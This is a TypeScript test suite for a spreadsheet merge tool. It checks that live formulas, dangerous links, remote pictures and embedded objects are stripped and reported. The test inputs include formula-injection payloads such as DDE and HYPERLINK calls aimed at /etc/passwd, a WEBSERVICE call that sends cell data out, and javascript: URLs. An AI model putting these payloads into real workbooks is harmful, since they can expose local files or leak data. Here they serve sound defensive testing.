import { NOT_CALCULATED, openWorkbook } from '../../src/index.js';
import { merge } from './merge.js';
import { ooxmlBreaches } from './ooxml-rules.js';
import { OFFICE, oneSheet, PLAIN } from './packages.js';
import { partText } from './part-text.js';
import { buildPackage } from '../build-package.js';

const good = oneSheet('Baik', '<row r="1"><c r="A1"><v>1</v></c></row>');
const cell = (formula: string) =>
  oneSheet(
    'Hidup',
    `<row r="1"><c r="A1"><f>${formula.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</f><v>7</v></c></row>`,
  );
const lossesOf = async (source: Uint8Array) => {
  const { bytes, certificate } = await merge([good, source]);
  expect(certificate.errors).toEqual([]);
  expect(await ooxmlBreaches(bytes)).toEqual([]);
  const losses = certificate.losses.map(({ kind, sheet, count }) => ({ kind, sheet, count }));
  return { bytes, losses, sheet: (await partText(bytes, 'xl/worksheets/sheet2.xml'))! };
};

test.each([
  ['_xlfn.WEBSERVICE("https://contoh.id/?"&A2)', 'live-formula'],
  ['_xlfn.IMAGE("https://contoh.id/a.png")', 'live-formula'],
  ['_xlfn._xlws.FILTERXML(A2,"//a")', 'live-formula'],
  ['RTD("progid",,"a")', 'live-formula'],
  [`INDIRECT("'Baik'!A1")`, 'live-formula'],
  ['sum(indirect(B1))', 'live-formula'],
  [`INDIRECT ("Baik!A1")`, 'live-formula'],
  [`SUM(INDIRECT\n\t("Baik!A1"))`, 'live-formula'],
  [`DDE("soffice";"/etc/passwd";"A1")`, 'live-formula'],
  [`EVALUATE("Baik!A1")`, 'live-formula'],
  ['HYPERLINK ("file:///etc/passwd","a")', 'live-link'],
  ['_xlfn.MAP(A2:A3,_xleta.WEBSERVICE)', 'live-formula'],
  ['HYPERLINK("file:///etc/passwd","a")', 'live-link'],
  ['HYPERLINK(HYPERLINK("#A1","file:///etc/passwd"),"a")', 'live-link'],
  ['LET(u,"file:///etc/passwd",HYPERLINK(u,"a"))', 'live-link'],
  ['LET(h,HYPERLINK,h("#A1",h("file:///etc/passwd")))', 'live-link'],
  [`HYPERLINK(T[a'],b'[c]&"file:///etc/passwd")`, 'live-link'],
  ['HYPERLINK(IF(A2,"#A1","file:///etc/passwd"),"a")', 'live-link'],
  ['HYPERLINK("#A1",IF(A2,"b","c:d"))', 'live-link'],
  ['HYPERLINK("\\\\server\\bagian","a")', 'live-link'],
  ['HYPERLINK(" JavaScript:alert(1)","a")', 'live-link'],
])('the formula %s becomes its value, and the certificate says so', async (formula, kind) => {
  const { losses, sheet } = await lossesOf(cell(formula));
  expect(losses).toEqual([{ kind, sheet: 'Hidup', count: 1 }]);
  expect(sheet).not.toContain('<f>');
  expect(sheet).toContain('<v>7</v>');
});

test.each(['', '<v/>', '<v></v>'])(
  'a formula that cannot be kept and has the value "%s" leaves a cell that is not calculated, not a blank one',
  async (value) => {
    const row = `<row r="1"><c r="A1"><f>Gelap!A1</f>${value}</c><c r="B1" t="str"><f>Gelap!A2</f><v></v></c></row>`;
    const { bytes, losses } = await lossesOf(oneSheet('Hidup', row));
    expect(losses).toEqual([
      { kind: 'formula-without-value', sheet: 'Hidup', count: 1 },
      { kind: 'sheet-left-behind', sheet: 'Hidup', count: 1 },
    ]);
    const values: unknown[] = [];
    for await (const { cells } of (await openWorkbook(bytes)).sheets())
      values.push(...cells.map((one) => one.value));
    expect(values).toEqual([1, NOT_CALCULATED]);
  },
);

test.each([
  'HYPERLINK("https://contoh.id","a")',
  'HYPERLINK("#A1","a")',
  'HYPERLINK("#A1","Kembali: daftar")',
  'IF(A2="","",HYPERLINK ("#B"&MATCH(A2,B:B,0),"#1: "&A2&"\\\\"))',
  'image+1',
  'SUM(A2:A3)&"INDIRECT("',
])('the formula %s stays', async (formula) => {
  const { losses, sheet } = await lossesOf(cell(formula));
  expect(losses).toEqual([]);
  expect(sheet).toContain('<f>');
});

const linked = (type: string, target: string, tail: string) =>
  buildPackage({
    ...PLAIN,
    sheets: [
      {
        name: 'Hidup',
        xml: `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${OFFICE}"><sheetData><row r="1"><c r="A1"><v>7</v></c></row></sheetData>${tail}</worksheet>`,
      },
    ],
    extra: {
      'xl/worksheets/_rels/sheet1.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="x1" Type="${OFFICE}/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
    },
  });
const HYPERLINK = '<hyperlinks><hyperlink ref="A1" r:id="x1"/></hyperlinks>';

test.each([
  'file:///C:/rahasia.xlsx',
  'javascript:alert(1)',
  '\\\\server\\x',
  'C:\\x.exe',
  'ms-word:ofe|u|x',
])('the link %s goes, and the certificate says so', async (target) => {
  const { bytes, losses, sheet } = await lossesOf(linked('hyperlink', target, HYPERLINK));
  expect(losses).toEqual([{ kind: 'live-link', sheet: 'Hidup', count: 1 }]);
  expect(sheet).not.toContain('r:id');
  expect(await partText(bytes, 'xl/worksheets/_rels/sheet2.xml.rels')).toBeNull();
});

test.each(['https://contoh.id/a', 'mailto:a@contoh.id', 'lampiran/buku.xlsx'])(
  'the link %s stays',
  async (target) => {
    const { bytes, losses } = await lossesOf(linked('hyperlink', target, HYPERLINK));
    expect(losses).toEqual([]);
    expect(await partText(bytes, 'xl/worksheets/_rels/sheet2.xml.rels')).toContain(target);
  },
);

test('a picture that is fetched when it is shown goes, and the certificate says so', async () => {
  const source = linked('image', 'https://contoh.id/jejak.png', '<picture r:id="x1"/>');
  const { losses, sheet } = await lossesOf(source);
  expect(losses).toEqual([{ kind: 'live-picture', sheet: 'Hidup', count: 1 }]);
  expect(sheet).not.toContain('<picture');
});

test('in names, validations and arrays too, a live formula goes whatever stands before its bracket', async () => {
  const source = buildPackage({
    ...PLAIN,
    workbookEnd:
      '<definedNames><definedName name="Intip">INDIRECT ("Baik!A1")</definedName></definedNames>',
    sheets: [
      {
        name: 'Hidup',
        xml: `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f t="array" ref="A1">SUM(INDIRECT ("Baik!A1"))</f><v>7</v></c></row></sheetData><dataValidations count="1"><dataValidation type="list" sqref="B1"><formula1>INDIRECT ("Baik!A1")</formula1></dataValidation></dataValidations><webPublishItems count="1"><webPublishItem id="1" divId="a" sourceType="sheet" destinationFile="\\\\server\\x.htm"/></webPublishItems></worksheet>`,
      },
    ],
  });
  const { bytes, losses, sheet } = await lossesOf(source);
  const told = losses.map(({ kind, count }) => `${kind} ${count}`);
  expect(told.toSorted()).toEqual([
    'dead-validation 1',
    'live-formula 1',
    'name 1',
    'web-publishing 1',
  ]);
  expect(sheet + (await partText(bytes, 'xl/workbook.xml'))).not.toMatch(/INDIRECT|webPublish/);
});

test.each([
  [
    'oleObject',
    'oleObjects',
    '<oleObject progId="Paket" shapeId="1025" r:id="x1"/>',
    'xl/embeddings/oleObject1.bin',
    'embedded-object',
  ],
  [
    'control',
    'controls',
    '<control shapeId="1025" r:id="x1"/>',
    'xl/activeX/activeX1.xml',
    'embedded-object',
  ],
  [
    'perkakas',
    'controls',
    '<control shapeId="1025" r:id="x1"/>',
    'xl/lain/lain1.xml',
    'other-part',
  ],
  [
    'customProperty',
    'customProperties',
    '<customPr name="x" r:id="x1"/>',
    'xl/customProperty1.bin',
    'other-part',
  ],
])(
  'what a sheet refers to as %s is left behind, and the certificate says so',
  async (type, list, element, path, kind) => {
    const source = buildPackage({
      ...PLAIN,
      sheets: [
        {
          name: 'Hidup',
          xml: `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${OFFICE}"><sheetData><row r="1"><c r="A1"><v>7</v></c></row></sheetData><${list}>${element}</${list}></worksheet>`,
        },
      ],
      extra: {
        [path]: '<a/>',
        'xl/worksheets/_rels/sheet1.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="x1" Type="${OFFICE}/${type}" Target="/${path}"/></Relationships>`,
      },
    });
    const { losses, sheet } = await lossesOf(source);
    expect(losses).toEqual([{ kind, sheet: 'Hidup', count: 1 }]);
    expect(sheet).not.toContain('r:id');
    expect(sheet).not.toContain('<customProperties');
  },
);

test('a text that the shared strings do not hold is damage, as it is to the reader', async () => {
  const dangling = oneSheet('Rusak', '<row r="1"><c r="A1" t="s"><v>5</v></c></row>');
  const { certificate } = await merge([good, dangling]);
  expect(certificate.errors).toMatchObject([{ source: 1, code: 'WORKBOOK_DAMAGED' }]);
});
